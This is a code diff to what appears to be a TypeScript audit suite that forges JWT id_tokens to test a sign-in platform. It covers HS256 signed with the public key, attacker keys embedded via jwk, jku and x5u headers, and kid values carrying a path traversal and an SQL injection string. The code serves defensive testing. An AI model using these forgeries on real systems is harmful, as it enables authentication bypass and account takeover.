@@ -11,13 +11,6 @@ const OWN_KID = 'audit-own-key'
 /** A forged id_token for a sign-in, as the attacker makes it of all that is public. */
 export type Forge = (claims: object) => string
 
-interface OwnKey {
-  privateKey: KeyObject
-  jwk: JsonWebKey
-}
-
-type PublishedKey = JsonWebKey & { kid?: string }
-
 const encode = (part: unknown) => Buffer.from(JSON.stringify(part)).toString('base64url')
 
 const sign = (header: object, claims: object, signatureOf: (signed: string) => string): string => {
@@ -27,10 +20,7 @@ const sign = (header: object, claims: object, signatureOf: (signed: string) => s
 
 const hs256 = (secret: string) => (signed: string) => createHmac('sha256', secret).update(signed).digest('base64url')
 
-const rs256 =
-  ({ privateKey }: OwnKey) =>
-  (signed: string) =>
-    createSign('RSA-SHA256').update(signed).sign(privateKey, 'base64url')
+const rs256 = (key: KeyObject) => (signed: string) => createSign('RSA-SHA256').update(signed).sign(key, 'base64url')
 
 /** The claims of a genuine id_token for a person's sign-in. spec: §4.9 */
 export function genuineClaims({ app, issuer }: AuditContext, { tenant }: Person, request: URL): object {
@@ -43,7 +33,7 @@ export function genuineClaims({ app, issuer }: AuditContext, { tenant }: Person,
 /** HS256 over the published key, in the forms in which programs hold it. CVE-2022-29217 */
 export async function publicKeyAsSecret({ attacker, issuer }: AuditContext): Promise<Record<string, Forge>> {
   const { response } = await attacker.send({ method: 'GET', url: `${issuer}/.well-known/jwks.json` })
-  const { keys } = JSON.parse(response.body) as { keys: PublishedKey[] }
+  const { keys } = JSON.parse(response.body) as { keys: (JsonWebKey & { kid?: string })[] }
   // Others may be beside the one that signs id_tokens. spec: §4.9
   const key = keys.find(({ kty, alg, use }) => kty === 'RSA' && alg === 'RS256' && use === 'sig')
   if (!key) throw new Error('the platform publishes no key')
@@ -63,27 +53,27 @@ export async function publicKeyAsSecret({ attacker, issuer }: AuditContext): Pro
 
 /** Tokens whose header names the key that they are signed with: CVE-2018-0114 */
 export async function ownKeys(context: AuditContext, keysUrl: string): Promise<Record<string, Forge>> {
-  const key = await ownKeyOf(context)
-  const headers = { jwk: { jwk: key.jwk }, jku: { jku: keysUrl }, x5u: { x5u: keysUrl } }
+  const { privateKey, jwk } = await ownKeyOf(context)
+  const headers = { jwk: { jwk }, jku: { jku: keysUrl }, x5u: { x5u: keysUrl } }
   return Object.fromEntries(
     Object.entries(headers).map(([name, header]) => [
       `with its key in "${name}"`,
-      (claims) => sign({ alg: 'RS256', kid: OWN_KID, ...header }, claims, rs256(key)),
+      (claims) => sign({ alg: 'RS256', kid: OWN_KID, ...header }, claims, rs256(privateKey)),
     ]),
   )
 }
 
 /** Key ids that become a path or a query where a program looks keys up by them. */
 export async function oddKids(context: AuditContext): Promise<Record<string, Forge>> {
-  const key = await ownKeyOf(context)
+  const { privateKey } = await ownKeyOf(context)
   return {
     'whose kid is a path to an empty file': (claims) =>
       sign({ alg: 'HS256', kid: '../../../../../../../../dev/null' }, claims, hs256('')),
-    'whose kid holds a quote': (claims) => sign({ alg: 'RS256', kid: "' OR '1'='1' -- " }, claims, rs256(key)),
+    'whose kid holds a quote': (claims) => sign({ alg: 'RS256', kid: "' OR '1'='1' -- " }, claims, rs256(privateKey)),
   }
 }
 
-const ownKeyOf = ({ once: onlyOnce }: AuditContext): Promise<OwnKey> =>
+const ownKeyOf = ({ once: onlyOnce }: AuditContext) =>
   onlyOnce('the own key of the attacker', async () => {
     const { publicKey, privateKey } = await promisify(generateKeyPair)('rsa', { modulusLength: 2048 })
     return { privateKey, jwk: { ...publicKey.export({ format: 'jwk' }), kid: OWN_KID, alg: 'RS256', use: 'sig' } }
